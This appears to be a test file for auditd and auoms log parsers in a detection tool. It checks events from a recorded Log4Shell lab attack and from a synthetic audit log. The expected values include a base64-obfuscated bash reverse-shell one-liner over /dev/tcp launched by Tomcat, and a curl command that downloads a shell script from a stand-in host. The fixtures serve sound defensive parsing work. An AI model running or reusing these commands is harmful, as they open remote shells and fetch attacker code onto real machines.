import assert from 'node:assert/strict';
import { test } from 'node:test';
import { sharedData } from '../../testing/data.js';
import { bufferSource, readPaths, readWith } from '../../testing/read.js';
import { auditdReader } from './auditd.js';

const LOG4SHELL = (): string =>
  sharedData(
    'otrf',
    'datasets',
    'compound',
    'Log4Shell',
    'syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip',
  );

test('auoms: the Log4Shell export shows Tomcat starting a reverse shell', async () => {
  const { events, problems } = await readPaths([LOG4SHELL()]);
  assert.deepEqual(problems, []);
  // 50 AUOMS_EXECVE rows, 27 with success=yes (counted with grep over the export).
  assert.equal(events.length, 50);
  assert.ok(events.every((e) => e.lurewatch.format === 'auoms-json'));
  const starts = events.filter((e) => e.event.type.includes('start'));
  assert.equal(starts.length, 27);
  assert.equal(events.filter((e) => e.event.action === 'exec-failed').length, 23);

  const shell = starts[0]!;
  assert.equal(shell['@timestamp'], '2022-05-11T18:10:21.990Z'); // audit(1652292621.990:84143)
  assert.equal(shell.host?.name, 'UBUNTU5');
  assert.equal(shell.user?.name, 'tomcat');
  assert.equal(shell.process?.executable, '/bin/bash');
  assert.equal(shell.process?.pid, 17790);
  assert.equal(shell.process?.parent?.pid, 1340);
  assert.equal(
    shell.process?.command_line,
    'bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}' +
      '|{base64,-d}|{bash,-i}"',
  );
  const interactive = starts.find((e) => e.process?.pid === 17794);
  assert.equal(interactive?.process?.command_line, 'bash -i');
  assert.equal(interactive?.process?.parent?.pid, 17790);
  const whoami = starts.find((e) => e.process?.name === 'whoami');
  assert.equal(whoami?.process?.parent?.pid, 17806);
});

// auditd's own audit.log: an execve over five records (one argument hex-encoded because it
// holds a space), a file created by it, a login record, and a damaged line.
const AUDIT_LOG = [
  'type=SYSCALL msg=audit(1709630100.120:501): arch=c000003e syscall=59 success=yes exit=0 ' +
    'ppid=2201 pid=2230 auid=1000 uid=1000 gid=1000 comm="curl" exe="/usr/bin/curl" ' +
    'key="exec" UID="alice" AUID="alice"',
  'type=EXECVE msg=audit(1709630100.120:501): argc=4 a0="curl" a1="-o" a2="/tmp/inv.sh" ' +
    `a3=${Buffer.from('http://dl.example.net/a b.sh').toString('hex').toUpperCase()}`,
  'type=CWD msg=audit(1709630100.120:501): cwd="/home/alice"',
  'type=PATH msg=audit(1709630100.120:501): item=0 name="/usr/bin/curl" inode=42 nametype=NORMAL',
  'type=PROCTITLE msg=audit(1709630100.120:501): proctitle=6375726C',
  'type=EOE msg=audit(1709630100.120:501):',
  'node=ws7 type=SYSCALL msg=audit(1709630101.000:502): arch=c000003e syscall=257 success=yes ' +
    'exit=3 pid=2230 uid=1000 comm="curl" exe="/usr/bin/curl"',
  'node=ws7 type=CWD msg=audit(1709630101.000:502): cwd="/home/alice"',
  'node=ws7 type=PATH msg=audit(1709630101.000:502): item=1 name="dl/inv.sh" nametype=CREATE',
  'type=USER_LOGIN msg=audit(1709630102.000:503): pid=900 uid=0 acct="alice" res=success',
  'type=SYSCALL msg=audit(garbage',
].join('\n');

test('auditd: records grouped by serial: a process start, a file creation, a login', async () => {
  const { events, problems } = await readWith(
    auditdReader,
    bufferSource('audit.log', AUDIT_LOG, 64),
  );
  assert.deepEqual(
    problems.map((p) => `${p.location} ${p.code}`),
    ['line 11 bad-record'],
  );
  assert.equal(events.length, 3);
  const [exec, created, login] = events;
  assert.deepEqual(exec?.event.type, ['start']);
  assert.equal(exec?.['@timestamp'], '2024-03-05T09:15:00.120Z');
  assert.equal(exec?.process?.command_line, 'curl -o /tmp/inv.sh "http://dl.example.net/a b.sh"');
  assert.equal(exec?.process?.working_directory, '/home/alice');
  assert.equal(exec?.process?.parent?.pid, 2201);
  assert.equal(exec?.user?.name, 'alice');
  assert.equal(exec?.lurewatch.location, 'line 1');
  assert.deepEqual(created?.event.type, ['creation']);
  assert.equal(created?.file?.path, '/home/alice/dl/inv.sh');
  assert.equal(created?.host?.name, 'ws7');
  assert.equal(login?.event.action, 'user_login');
  assert.equal(auditdReader.sniff({ name: 'a', head: Buffer.from(`${AUDIT_LOG}\n`) }), 60);
});
